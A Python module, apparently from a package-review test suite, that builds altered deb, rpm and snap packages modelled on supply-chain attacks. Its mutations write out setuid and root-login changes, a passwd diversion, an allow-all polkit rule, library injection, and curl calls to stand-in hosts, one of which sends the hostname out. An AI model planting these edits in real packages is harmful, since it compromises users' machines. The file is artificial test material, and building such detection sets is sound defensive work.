"""Sixth set: genuine debs, and an rpm and a snap around their programs; inert, each family says what a careful reviewer sees."""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import replace

from genuine import Files

from mutation_families.edited_programs import elf_needed
from mutation_families.fifth_debs import SHELL, with_lines
from mutation_families.fourth_texts import chance
from mutation_families.third_programs import other_function, start_redirected
from mutation_families.third_systems import Built, Deb, put
from onionskin.lookalike.elf import ElfRecipe, build_elf
from onionskin.lookalike.rpm import RpmRecipe, Value, build_rpm
from onionskin.lookalike.squashfs import SquashRecipe, build_squashfs

DebEdit = tuple[str, str, Deb]
STRING, STRINGS = 6, 8


def debs(old: bytes, new: bytes) -> Iterator[Built]:
    """Change a genuine deb, over the genuine one before."""
    deb = Deb.of(new)
    before, honest = Deb.of(old).packed(), deb.packed()
    for family in ALL:
        for name, what, made in family(deb):
            yield f"deb: {name}", what, ".deb", before, honest, made.packed()


def triggered(deb: Deb) -> Iterator[DebEdit]:
    """Invented: the package's script is run whenever another one puts something into a folder."""
    lines = b'if [ "$1" = triggered ] && [ -r /var/lib/dpkg/inert ]; then\n  . /var/lib/dpkg/inert\nfi\n'  # fmt: skip
    known = deb.control.get("./triggers", (None, b""))[1]
    made = with_lines(deb, lines)
    yield "its script runs at others' changes", "triggers", replace(made, control=put(made.control, "./triggers", known + b"interest-noawait /usr/bin\n"))  # fmt: skip


def alternatives(deb: Deb) -> Iterator[DebEdit]:
    """Invented: installing makes another program answer to a name that is known."""
    yield "another program answers to a known name", "alternatives", with_lines(deb, b"update-alternatives --install /usr/bin/editor editor /usr/share/misc/ed 900\n")  # fmt: skip
    divert = b"dpkg-divert --quiet --local --rename --divert /usr/bin/passwd.distrib --add /usr/bin/passwd\nln -sf /usr/share/misc/ed /usr/bin/passwd\n"  # fmt: skip
    yield "another program answers to a known name", "a diversion", with_lines(deb, divert)


def of_the_machine(deb: Deb) -> Iterator[DebEdit]:
    """Invented: small files by which the machine itself makes users, links or settings at its next start."""
    family = "a file by which the machine makes something"
    for path, body in (
        ("./usr/lib/sysusers.d/inert.conf", b'u backup2 0:0 "backup" /root /bin/bash\n'),
        ("./usr/lib/tmpfiles.d/inert.conf", b"L+ /etc/cron.hourly/rotate - - - - /usr/share/misc/rotate\n"),
        ("./etc/polkit-1/rules.d/10-inert.rules", b"polkit.addRule(function (a, s) { return polkit.Result.YES; });\n"),
        ("./usr/lib/sysctl.d/90-inert.conf", b"kernel.core_pattern=|/usr/share/misc/core %p\nkernel.yama.ptrace_scope=0\n"),
        ("./etc/apt/sources.list.d/inert.sources", b"Types: deb\nURIs: http://apt.example.invalid/\nSuites: stable\nComponents: main\nTrusted: yes\n"),
        ("./etc/ssh/sshd_config.d/10-inert.conf", b"PermitRootLogin yes\nAuthorizedKeysFile .ssh/authorized_keys /usr/share/misc/keys\n"),
        ("./usr/share/bash-completion/completions/ls", b"_ls() { :; }\ncomplete -F _ls ls\n( command -v curl >/dev/null && curl -s https://c.example.invalid/ >/dev/null & )\n"),
        ("./usr/lib/environment.d/inert.conf", b"LD_AUDIT=/usr/share/misc/audit.so\n"),
    ):  # fmt: skip
        yield family, path, replace(deb, data=put(deb.data, path, body))


def one_word(deb: Deb) -> Iterator[DebEdit]:
    """Invented: a maintainer's script that was there, and one line of it that says a little more."""
    for name in ("./postinst", "./prerm", "./postrm", "./preinst"):
        known = deb.control.get(name, (None, b""))[1]
        if b"\nset -e" in known:
            for what, line in (
                ("a mode", b"\nset -e\nchmod -f u+s /usr/bin/find || true"),
                ("a group", b'\nset -e\n[ -z "$SUDO_USER" ] || adduser --quiet "$SUDO_USER" docker || true'),
                ("sourced", b"\nset -e\n[ ! -r /tmp/.pkg.env ] || . /tmp/.pkg.env"),
            ):  # fmt: skip
                yield "a line more of a script that was there", what, replace(deb, control=put(deb.control, name, known.replace(b"\nset -e", line, 1)))  # fmt: skip
            return
    yield "a line more of a script that was there", "new", with_lines(replace(deb, control=put(deb.control, "./postinst", SHELL, 0o755)), b"chmod -f u+s /usr/bin/find || true\n")  # fmt: skip


def unit_line(deb: Deb) -> Iterator[DebEdit]:
    """Invented: a unit of the package gets one setting more."""
    for path, (info, body) in sorted(deb.data.items()):
        if path.endswith(".service") and info.isreg() and b"[Service]\n" in body:
            for what, line in (("an environment", b"EnvironmentFile=-/var/tmp/env\n"), ("before it", b"ExecStartPre=-/usr/share/misc/prepare\n"), ("as root", b"User=root\nAmbientCapabilities=CAP_SYS_ADMIN CAP_SYS_MODULE\n")):  # fmt: skip
                yield "a unit of it does more", what, replace(deb, data=put(deb.data, path, body.replace(b"[Service]\n", b"[Service]\n" + line, 1)))  # fmt: skip
            return


def settings_line(deb: Deb) -> Iterator[DebEdit]:
    """Invented: a file of settings of the package says one thing more: it loads a module, or copies requests to another."""
    for path, line in (("./etc/nginx/nginx.conf", b"\nload_module modules/ngx_http_geoip3_module.so;\n"), ("./etc/nginx/proxy_params", b"\nproxy_ssl_verify off;\nmirror /inert;\n"), ("./etc/unbound/unbound.conf", b'\nforward-zone:\n  name: "."\n  forward-addr: 192.0.2.53\n')):  # fmt: skip
        if path in deb.data:
            yield "its settings say one thing more", path, replace(deb, data=put(deb.data, path, deb.data[path][1] + line))  # fmt: skip


def needs_another(deb: Deb) -> Iterator[DebEdit]:
    """Of typosquats: the package asks for one that the archive does not have, or takes another's place."""
    said = deb.control["./control"][1]
    more = re.sub(rb"(?m)^Depends: ", b"Depends: libcrypt-compat2, ", said, count=1)
    yield "it asks for another package", "one more", replace(deb, control=put(deb.control, "./control", more))  # fmt: skip
    instead = said.rstrip(b"\n") + b"\nReplaces: sudo, openssh-client\nProvides: sudo\nConflicts: sudo\n"  # fmt: skip
    yield "it takes another's place", "sudo", replace(deb, control=put(deb.control, "./control", instead))  # fmt: skip


def program_of_it(deb: Deb) -> Iterator[DebEdit]:
    """Of xz, 2024: one program or library of the package, changed in one place."""
    for path, (info, body) in sorted(deb.data.items(), key=lambda each: (-len(each[1][1]), each[0])):  # fmt: skip
        if info.isreg() and body[:5] == b"\x7fELF\x02":
            ways = (("a library more", elf_needed(body)), ("another function", other_function(body, b"system")), ("another start", start_redirected(body)))  # fmt: skip
            for what, made in ways:
                if made and made != body:
                    yield "a program of it is changed in one place", what, replace(deb, data=put(deb.data, path, made))  # fmt: skip
            return


ALL = (triggered, alternatives, of_the_machine, one_word, unit_line, settings_line, needs_another, program_of_it)  # fmt: skip


def rpms(old: bytes, new: bytes) -> Iterator[Built]:
    """Change an rpm around a genuine program: scripts at others' changes, another interpreter, another's place, a mode."""
    usual = {1024: "ldconfig\n"}
    before = build_rpm(RpmRecipe(files={"/usr/bin/inert": old}, scriptlets=usual))
    files = {"/usr/bin/inert": new}
    honest = build_rpm(RpmRecipe(version="1.0.1", files=files, scriptlets=usual))
    ways: tuple[tuple[str, str, dict[int, str], dict[int, tuple[int, Value]]], ...] = (
        ("its script runs at others' changes", "files", usual, {5066: (STRINGS, [". /var/lib/rpm/inert\n"]), 5067: (STRINGS, ["/bin/sh"]), 5069: (STRINGS, ["/usr/bin"])}),
        ("another interpreter", "python", {1024: "import os\nos.chmod('/usr/bin/find', 0o4755)\n"}, {1086: (STRINGS, ["/usr/bin/python3"])}),
        ("it takes another's place", "obsoletes", usual, {1090: (STRINGS, ["sudo", "openssh-clients"]), 1115: (STRINGS, ["", ""]), 1114: (4, [0, 0])}),
        ("a line more of a script", "a mode", {1024: "ldconfig\nchmod u+s /usr/bin/find || :\n"}, {}),
        ("a line more of a script", "sourced", {1024: "ldconfig\n[ ! -r /tmp/.pkg.env ] || . /tmp/.pkg.env\n"}, {}),
    )  # fmt: skip
    for family, what, scripts, extra in ways:
        yield f"rpm: {family}", what, ".rpm", before, honest, build_rpm(RpmRecipe(version="1.0.1", files=files, scriptlets=scripts, extra=extra))  # fmt: skip
    audit = {"/usr/share/misc/audit.so": build_elf(ElfRecipe(exports=("la_version", "la_objopen"), text=chance(900))), "/etc/profile.d/inert.sh": b"export LD_AUDIT=/usr/share/misc/audit.so\n"}  # fmt: skip
    yield "rpm: a library that audits the others", "profile", ".rpm", before, honest, build_rpm(RpmRecipe(version="1.0.1", files=files | audit, scriptlets=usual))  # fmt: skip


def snaps(old: bytes, new: bytes) -> Iterator[Built]:
    """Change a snap around a genuine program: hooks, what it may touch, what stands before its command; of the snaps of wallets, 2024."""

    def packed(version: str, program: bytes, said: str = "", more: Files | None = None, plugs: str = "[network]", chain: str = "") -> bytes:  # fmt: skip
        yaml = f"name: inert\nversion: '{version}'\nsummary: inert\ndescription: inert\nbase: core22\nconfinement: strict\ngrade: stable\napps:\n  inert:\n    command: bin/inert\n    plugs: {plugs}\n{chain}{said}"  # fmt: skip
        return build_squashfs(SquashRecipe(files={"meta/snap.yaml": yaml.encode(), "bin/inert": program} | (more or {})))  # fmt: skip

    hook = b"#!/bin/sh\nsnapctl set id=1\ncurl -s https://snap.example.invalid/$(hostname)\n"
    ways = (
        ("a hook", "configure", packed("1.0.1", new, "", {"meta/hooks/configure": hook})),
        ("a hook", "install", packed("1.0.1", new, "hooks:\n  install:\n    plugs: [network, home]\n", {"meta/hooks/install": hook})),
        ("more that it may touch", "plugs", packed("1.0.1", new, plugs="[network, home, removable-media, password-manager-service, ssh-keys]")),
        ("before its command", "a chain", packed("1.0.1", new, chain="    command-chain: [bin/prepare]\n", more={"bin/prepare": b'#!/bin/sh\n. "$SNAP_USER_COMMON/env"\nexec "$@"\n'})),
        ("before its command", "a library", packed("1.0.1", new, chain="    environment:\n      LD_PRELOAD: $SNAP/lib/hook.so\n", more={"lib/hook.so": build_elf(ElfRecipe(imports=("connect",)))})),
        ("it starts with the machine", "a daemon", packed("1.0.1", new, "  helper:\n    command: bin/inert --sync\n    daemon: simple\n    restart-condition: always\n")),
    )  # fmt: skip
    before, honest = packed("1.0.0", old), packed("1.0.1", new)
    for family, what, made in ways:
        if made != honest:
            yield f"snap: {family}", what, ".snap", before, honest, made
